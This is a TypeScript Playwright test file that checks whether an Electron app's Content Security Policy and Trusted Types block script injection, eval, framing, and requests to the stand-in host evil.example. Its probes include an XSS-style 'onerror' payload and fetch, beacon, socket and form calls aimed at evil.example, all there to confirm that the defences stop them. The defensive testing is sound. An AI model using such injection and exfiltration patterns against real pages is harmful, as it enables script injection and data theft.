/**
 * Item 7 of Electron's security checklist, by its effect: the built page in Chromium, and everything that a page must not load or
 * run tried in it. Each is blocked, and the browser says by which directive. The page comes through the loopback door,
 * whose answers carry the same headers as those of the app's own protocol.
 */
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { contentSecurityPolicy } from '../../src/main/security/content-policy.ts'
import { type Door, openDoor } from '../../src/web/door.ts'
import { builtFolder } from '../kit/electron-program.ts'
import { launchChromium, noChromium } from '../kit/electron-stand-in/chromium.ts'

let door: Door
let browser: Browser
let page: Page
const wentOut: string[] = []

beforeAll(async () => {
  if (noChromium) return
  door = await openDoor({ root: join(builtFolder, 'renderer'), onPage: () => undefined })
  browser = await launchChromium()
  page = await browser.newPage()
  await page.route(/evil\.example/, (route) => {
    wentOut.push(route.request().url())
    return route.fulfill({
      status: 200,
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: '0',
    })
  })
  await page.goto(door.address)
})
afterAll(async () => {
  await browser?.close()
  await door?.close()
})

/** What a probe does, as the body of a function in the page, and the directive that stands in its way. */
const probes: Readonly<Record<string, readonly [body: string, directive: string]>> = {
  'a script in the page': ['add("script", { text: "window.ran = 1" })', 'script-src-elem'],
  'a handler in an attribute': ['make("b").setAttribute("onclick", "window.ran = 1")', 'script-src-attr'],
  eval: ['(0, eval)("window.ran = 1")', 'script-src'],
  'new Function': ['new Function("window.ran = 1")()', 'script-src'],
  'setTimeout of a text': ['setTimeout("window.ran = 1")', 'script-src'],
  'a script from elsewhere': ['add("script", { src: "https://evil.example/a.js" })', 'script-src-elem'],
  'a script from data': ['add("script", { src: "data:text/javascript,window.ran=1" })', 'script-src-elem'],
  'an import from elsewhere': ['import("https://evil.example/a.js").catch(() => 0)', 'script-src-elem'],
  'a worker from data': ['new Worker("data:text/javascript,0")', 'worker-src'],
  'compiled WebAssembly': [
    'WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).catch(() => 0)',
    'script-src',
  ],
  'a javascript: address': ['location.href = "javascript:window.ran=1"', 'script-src-elem'],
  'a link to javascript:': ['add("a", { href: "javascript:window.ran=1" }).click()', 'script-src-elem'],
  'a picture from elsewhere': ['add("img", { src: "https://evil.example/a.png" })', 'img-src'],
  'a film from elsewhere': ['add("video", { src: "https://evil.example/a.mp4" })', 'media-src'],
  'a font from elsewhere': ['new FontFace("a", "url(https://evil.example/a.woff2)").load().catch(() => 0)', 'font-src'],
  'a style sheet from elsewhere': [
    'add("link", { rel: "stylesheet", href: "https://evil.example/a.css" })',
    'style-src-elem',
  ],
  'a style sheet in the page': ['add("style", { textContent: "* { color: red }" })', 'style-src-elem'],
  'a style in an attribute': ['add("b").setAttribute("style", "color: red")', 'style-src-attr'],
  fetch: ['fetch("https://evil.example/").catch(() => 0)', 'connect-src'],
  XMLHttpRequest: ['const x = new XMLHttpRequest(); x.open("GET", "https://evil.example/"); x.send()', 'connect-src'],
  'a beacon': ['navigator.sendBeacon("https://evil.example/", "a")', 'connect-src'],
  'a socket': ['new WebSocket("wss://evil.example/")', 'connect-src'],
  'a stream of events': ['new EventSource("https://evil.example/")', 'connect-src'],
  'another base of addresses': ['document.head.append(make("base", { href: "https://evil.example/" }))', 'base-uri'],
  'a form that is sent elsewhere': [
    'const f = add("form", { action: "https://evil.example/", method: "post" }); f.submit()',
    'form-action',
  ],
  'a form that is sent here': ['const f = add("form", { action: "/", method: "post" }); f.submit()', 'form-action'],
  'a frame from elsewhere': ['add("iframe", { src: "https://evil.example/" })', 'frame-src'],
  'a frame of our own': ['add("iframe", { src: "/index.html" })', 'frame-src'],
  'an object': ['add("object", { data: "https://evil.example/a.swf" })', 'object-src'],
  'an embedded thing': ['add("embed", { src: "https://evil.example/a.pdf" })', 'object-src'],
}

const helpers = `
  const make = (name, properties = {}) => Object.assign(document.createElement(name), properties)
  const add = (name, properties) => { const made = make(name, properties); document.body.append(made); return made }
`

/** What blocked the probe: directives that the browser named, and what was thrown. */
async function blockers(tried: Page, body: string): Promise<string[]> {
  // Of the developer tools a text may be run; that the probe does not run by their leave, it waits for a turn of its own.
  return tried.evaluate(`new Promise((resolve) => {
    const seen = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective))
    setTimeout(() => setTimeout(() => resolve(seen), 150))
    setTimeout(() => { try { ${helpers}; ${body} } catch (error) { seen.push(error.message) } })
  })`)
}

/** A page of nobody's with these headers. */
async function openPlain(headers: Readonly<Record<string, string>>): Promise<Page> {
  const other = await browser.newPage()
  await other.route('http://plain.example/', (route) =>
    route.fulfill({ contentType: 'text/html', headers: { ...headers }, body: '<body>' }),
  )
  await other.route(/evil\.example/, (route) => {
    wentOut.push(route.request().url())
    return route.abort()
  })
  await other.goto('http://plain.example/')
  return other
}

const named = Object.entries(probes).map(([what, [body, directive]]) => [what, body, directive] as const)

describe.skipIf(noChromium)(`the built page blocks${noChromium ? ` (skipped: ${noChromium})` : ''}`, () => {
  test.each(named)('%s', async (_, body, directive) => {
    const seen = await blockers(page, body)
    expect(seen.length, 'nothing was blocked').toBeGreaterThan(0)
    const byTypes = /^require-trusted-types-for$|only scripts of the app itself|Trusted|Content Security Policy/
    expect(seen.filter((blocker) => blocker !== directive && !byTypes.test(blocker))).toEqual([])
    expect(await page.evaluate('window.ran')).toBeUndefined()
  })

  test('another policy of trusted types', async () => {
    const body = 'trustedTypes.createPolicy("evil", { createHTML: (html) => html })'
    expect(await blockers(page, body)).toContain('trusted-types')
  })

  test.each([
    ['text as markup', 'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=window.ran=1>")'],
    ['a frame with a text', 'document.createElement("iframe").srcdoc = "<script>window.ran=1</script>"'],
    ['a document that is written', 'document.write("<script>window.ran=1</script>")'],
  ])('%s, by the one policy of trusted types', async (_, body) => {
    const thrown = await page.evaluate(`(() => { try { ${body} } catch (error) { return error.name } })()`)
    expect(thrown).toBe('TypeError')
    expect(await page.evaluate('window.ran')).toBeUndefined()
  })

  test('a script that was put together of text nodes', async () => {
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.append('window.ran = 1')
      document.body.append(script)
    })
    expect(await page.evaluate('window.ran')).toBeUndefined()
  })

  test('being framed by another page', async () => {
    const other = await browser.newPage()
    await other.route('http://evil.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${door.address}"></iframe>` }),
    )
    await other.goto('http://evil.example/')
    const [, frame] = other.frames()
    expect(frame?.url()).toMatch(/^chrome-error:/)
    await other.close()
  })

  test('all of it before anything went out, and is still there', async () => {
    expect(wentOut).toEqual([])
    expect(page.url()).toBe(new URL('/', door.address).href)
    expect(await page.locator('#studio').count()).toBe(1)
  })
})

describe.skipIf(noChromium)('without trusted types, which stop most of it first, the policy still blocks', () => {
  let plain: Page
  beforeAll(async () => {
    const directives = contentSecurityPolicy.split('; ').filter((directive) => !directive.includes('trusted-types'))
    plain = await openPlain({ 'content-security-policy': directives.join('; ') })
  })
  afterAll(() => plain?.close())

  test.each(named)('%s', async (_, body, directive) => {
    expect(await blockers(plain, body)).toContain(directive)
    expect(await plain.evaluate('window.ran')).toBeUndefined()
    expect(wentOut).toEqual([])
  })
})

describe.skipIf(noChromium)('in a page without a policy runs', () => {
  test.each(['a script in the page', 'eval', 'new Function', 'setTimeout of a text', 'a javascript: address'])(
    '%s',
    async (what) => {
      const plain = await openPlain({})
      await plain.evaluate(`${helpers}; ${probes[what]?.[0]}`)
      await expect.poll(() => plain.evaluate('window.ran')).toBe(1)
      await plain.close()
    },
  )
})
